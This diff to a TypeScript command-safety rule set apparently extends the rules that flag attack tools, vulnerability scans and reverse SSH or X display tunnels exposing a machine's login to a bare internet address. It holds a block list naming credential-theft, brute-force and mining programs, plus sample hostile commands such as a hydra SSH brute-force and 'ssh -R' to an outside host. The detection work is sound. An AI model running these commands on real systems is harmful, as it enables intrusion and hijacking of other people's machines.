@@ -1,3 +1,4 @@
+import { strangerHost } from '../shell/addresses.ts';
 import type { CommandRule } from '../rule.ts';
 
 const netcat = ['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd'];
@@ -255,10 +256,16 @@ export const networkRules: readonly CommandRule[] = [
     id: 'attack-tool',
     on: 'command',
     domain: 'network',
-    risk: 'moderate',
-    programs: ['hydra', 'medusa', 'sqlmap', 'msfvenom', 'msfconsole', 'nikto', 'wpscan', 'gobuster'],
-    title: 'Attack tool',
-    message: 'This tries to break into a machine or a service.',
+    risk: 'high',
+    programs: (
+      'hydra medusa ncrack patator sqlmap msfvenom msfconsole msfrpcd responder bettercap ettercap arpspoof dnsspoof macof ' +
+      'mimipenguin mimikatz linpeas.sh linpeas pspy pspy64 crackmapexec netexec nxc evil-winrm impacket-secretsdump secretsdump.py ' +
+      'psexec.py wmiexec.py GetUserSPNs.py kerbrute rubeus chisel ligolo-proxy slowloris slowhttptest t50 mdk3 mdk4 aireplay-ng ' +
+      'xmrig xmr-stak minerd cpuminer cgminer bfgminer ethminer t-rex nbminer phoenixminer lolminer'
+    ).split(' '),
+    title: 'A tool for breaking in, or for working for somebody else',
+    message:
+      'This tries to break into a machine or a service, or has this machine compute for somebody else.',
     stakes: [
       'Other machines, which may not be yours',
       'It is forbidden without leave',
@@ -267,6 +274,35 @@ export const networkRules: readonly CommandRule[] = [
     alternative: 'hydra -h',
     matches: ['hydra -l root -P list.txt ssh://10.0.0.1', 'sqlmap -u http://example.com/?id=1'],
     spares: ['hydra -h', 'sqlmap --version', 'nmap -p 22 10.0.0.1'],
+    when: (command) => command.operands.length > 0 || command.has('-u'),
+  },
+  {
+    id: 'security-scan',
+    on: 'command',
+    domain: 'network',
+    risk: 'moderate',
+    programs: [
+      'nikto',
+      'wpscan',
+      'gobuster',
+      'john',
+      'hashcat',
+      'masscan',
+      'ffuf',
+      'dirb',
+      'feroxbuster',
+      'nuclei',
+    ],
+    title: 'A search for weaknesses',
+    message: 'This looks for weaknesses of a machine, or for a password.',
+    stakes: [
+      'Other machines, which may not be yours',
+      'It is forbidden without leave',
+      'It is noticed and logged',
+    ],
+    alternative: 'nikto -Version',
+    matches: ['nikto -h http://10.0.0.1', 'gobuster dir -u http://10.0.0.1 -w words.txt'],
+    spares: ['nikto -Version', 'nmap -p 22 10.0.0.1', 'hashcat --version'],
     when: (command) => command.operands.length > 0 || command.has('-u'),
   },
   {
@@ -296,6 +332,32 @@ export const networkRules: readonly CommandRule[] = [
       if (command.program === 'npm') return /strict-ssl[ =]false/.test(command.text);
       return /StrictHostKeyChecking=no/i.test(command.text);
     },
+  },
+  {
+    id: 'expose-login-to-stranger',
+    on: 'command',
+    domain: 'network',
+    risk: 'critical',
+    programs: ['ssh', 'autossh', 'xterm', 'xeyes'],
+    title: 'The login of this machine at a bare address of the internet',
+    message: 'This gives a machine that has no name a way to the login or to a terminal of this one.',
+    stakes: [
+      'Whoever is at the other end can work here',
+      'It goes past the firewall',
+      'It stays open until it is stopped',
+    ],
+    alternative: 'ssh -L 8080:localhost:80 host',
+    matches: ['ssh -fN -R 2222:localhost:22 x@203.0.113.9', 'xterm -display 203.0.113.9:1'],
+    spares: [
+      'ssh -R 2222:localhost:22 host',
+      'ssh -R 8080:localhost:3000 x@203.0.113.9',
+      'xterm -display :1',
+    ],
+    when: (command) =>
+      command.program.startsWith('x')
+        ? /-display (?!10\.|127\.|192\.168\.)\d{1,3}(?:\.\d{1,3}){3}:\d/.test(command.text)
+        : /-\w*R ?(?:[\w.*]{1,40}:)?\d{2,5}:[\w.]{1,40}:(?:22|3389|5900)(?:\s|$)/.test(command.text) &&
+          command.args.some(({ text }) => strangerHost.test(text)),
   },
   {
     id: 'expose-login',
